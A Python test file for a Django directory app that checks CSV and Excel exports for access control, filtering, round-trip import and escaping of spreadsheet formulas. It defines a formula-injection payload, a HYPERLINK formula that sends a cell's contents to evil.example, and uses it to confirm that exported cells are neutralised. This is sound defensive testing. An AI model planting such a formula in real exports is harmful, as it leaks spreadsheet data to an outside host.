"""The directory as a file."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from tests.factories.accounts import AgencyFactory, StaffFactory, UserFactory
from tests.factories.directory import OrganisationFactory, PersonFactory
from tests.factories.imports import carried_in, checked

from hansa.apps.directory.models import Organisation, Person

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example?"&A1)'


@pytest.fixture
def agency():
    return AgencyFactory()


@pytest.fixture
def officer(agency, client):
    officer = StaffFactory(agency=agency)
    client.force_login(officer)
    return officer


def lines(client, **asked):
    answer = client.get(reverse("directory:export_csv"), asked)
    return [line.split(";") for line in answer.getvalue().decode("utf-8-sig").splitlines()]


def cells(client):
    answer = client.get(reverse("directory:export_workbook"))
    return [list(row) for row in load_workbook(io.BytesIO(answer.content)).active.rows]


def test_every_organisation_has_a_line_for_each_of_its_people(client, agency, officer):
    organisation = OrganisationFactory(agency=agency, name="Zélie", enterprise_number="0123456749")
    PersonFactory(organisation=organisation, last_name="Claes", email="c@example.org")
    PersonFactory(organisation=organisation, last_name="Peeters", email="p@example.org")
    OrganisationFactory(agency=agency, name="Agoria")

    headings, *rows = lines(client)

    assert headings[:3] == ["Name", "Kind", "Enterprise number"]
    last_name = headings.index("Last name of the contact")
    assert [(row[0], row[2], row[last_name]) for row in rows] == [
        ("Agoria", "", ""), ("Zélie", "0123.456.749", "Claes"), ("Zélie", "0123.456.749", "Peeters")
    ]  # fmt: skip


def test_a_stranger_takes_nothing_along(client, agency):
    OrganisationFactory(agency=agency, name="Zélie")

    for name in ("export_csv", "export_workbook"):
        assert client.get(reverse(f"directory:{name}")).status_code == 302
    client.force_login(UserFactory())
    assert client.get(reverse("directory:export_csv")).status_code == 404
    client.force_login(StaffFactory())
    assert len(lines(client)) == 1


def test_only_what_is_looked_for_is_taken_along(client, agency, officer):
    OrganisationFactory(agency=agency, name="Zélie")
    OrganisationFactory(agency=agency, name="Agoria", kind="federation")

    assert [row[0] for row in lines(client, kind="federation")[1:]] == ["Agoria"]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_a_cell_is_never_a_formula(client, agency, officer, sign):
    OrganisationFactory(agency=agency, name=f"{sign}{FORMULA[1:]}")

    (_headings, row) = lines(client)
    assert row[0].startswith(("\"'", "'"))
    (_headings, row) = cells(client)
    assert (row[0].data_type, row[0].value) == ("s", f"'{sign}{FORMULA[1:]}")


def test_what_was_exported_is_imported_as_it_was(client, agency, officer):
    organisation = OrganisationFactory(agency=agency, name=FORMULA, enterprise_number="0123456749")
    PersonFactory(organisation=organisation, phone="+32 2 555 12 34")
    written = client.get(reverse("directory:export_workbook")).content
    other = StaffFactory()

    carried_in(other, checked(other, written, filename="organisations.xlsx"))

    copy = Organisation.objects.exclude(pk=organisation.pk).get()
    assert (copy.name, copy.enterprise_number) == (FORMULA, "0123456749")
    assert Person.objects.get(organisation=copy).phone == "+32 2 555 12 34"
